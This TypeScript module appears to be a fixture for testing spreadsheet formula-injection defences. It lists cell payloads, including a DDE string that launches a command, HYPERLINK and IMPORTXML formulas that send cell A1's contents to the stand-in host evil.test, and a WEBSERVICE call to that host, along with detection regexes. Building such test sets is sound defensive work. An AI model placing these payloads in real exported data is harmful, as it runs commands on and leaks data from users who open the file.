/** What a spreadsheet would take for the beginning of a formula, the full-width forms and control characters too. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠'];
/** Where it may stand: first, or first again after a spreadsheet has cut the cell at another separator. */
const PLACES = ['', ' ', '\u3000', 'a;', 'a"', 'a\n', 'a;"'];
const DDE = `cmd|' /C calc'!A0`;

/** Cells that some spreadsheet would run, or follow, or fetch. */
export const FORMULAS: readonly string[] = [
  ...TRIGGERS.flatMap((trigger) => PLACES.map((place) => `${place}${trigger}${DDE}`)),
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  '=WEBSERVICE("http://evil.test/")',
  '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=1+1";=2+2',
  "'=1+1",
  "''=1+1",
  '","=1+1',
  '";"=1+1',
  '\r\n=1+1',
  '\uFEFF=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
];

/** The first sign, behind what spreadsheets skip, is a trigger. */
export const STARTS_A_FORMULA = /^["\s\u3000\uFEFF\u200b]*[=+\-@＝＋－＠]/;
/** A whole cell that a spreadsheet would run or break on. */
export const WOULD_RUN = /^["\s\u3000\uFEFF\u200b]*[=+\-@＝＋－＠]|^[\t\r\n\u0000]/;
